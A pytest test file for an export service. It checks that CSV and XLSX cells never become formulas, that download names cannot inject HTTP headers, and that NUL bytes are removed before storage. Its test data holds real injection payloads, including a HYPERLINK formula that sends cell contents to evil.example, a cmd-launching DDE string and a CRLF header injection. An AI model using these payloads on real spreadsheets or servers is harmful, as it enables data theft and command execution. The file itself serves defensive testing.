"""Strings from uploaders reach spreadsheets, headers and PostgreSQL (review F10): a cell never
becomes a formula, a name never breaks a header, a NUL byte never reaches the database."""

from __future__ import annotations

import csv
import io
import zipfile

import h11
import pytest
from openpyxl import load_workbook

from services.gateway import exports
from zhibiao.domain.cleanup import clean_pages, clean_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"报告")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows():
    return [{"name": v, "value": -1.5} for v in HOSTILE] + [{"name": "杭州市政府工作报告", "value": 7}]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_look_like_formulas_are_text(value):
    body = exports.to_csv(_rows(), ("name", "value")).decode("utf-8-sig")
    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(body, newline=""))}
    assert "'" + value in cells and value not in cells
    assert cells["'" + value] == "-1.5"  # numbers are written as numbers
    assert "杭州市政府工作报告" in cells


def test_xlsx_cells_that_look_like_formulas_are_text():
    data = exports.to_xlsx(_rows() + [{"name": "a\x01b", "value": 0}], ("name", "value"), "t")
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet, sheet[:2000]
    ws = load_workbook(io.BytesIO(data)).active
    names = [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert names[: len(HOSTILE)] == HOSTILE and "ab" in names
    assert all(ws.cell(row=i, column=1).data_type == "s" for i in range(2, len(HOSTILE) + 2))
    assert ws.cell(row=2, column=2).value == -1.5


@pytest.mark.parametrize("name", ["series-gdp\r\nX-Injected: 1", 'series-\x00\x7f\t"a\\b"', "series-人均GDP\n"])
def test_a_download_name_makes_a_header_the_server_sends(name):
    disposition = exports.download([], ("a",), fmt="csv", name=name).headers["content-disposition"]
    h11.Response(status_code=200, headers=[("Content-Disposition", disposition)])  # raises on CR, LF, NUL
    assert disposition.startswith('attachment; filename="series-') and "filename*=UTF-8''series-" in disposition
    assert disposition.count('"') == 2


def test_cleanup_removes_nul_bytes():
    # PostgreSQL's text type cannot hold NUL: a report carrying some must still be stored.
    assert clean_text("全市生产总值\x0018753亿元\x00\n\x00\x00\n增长6.8%") == "全市生产总值18753亿元\n增长6.8%\n"
    assert "\x00" not in clean_pages(["第一页\x00", "\x00第二页"])
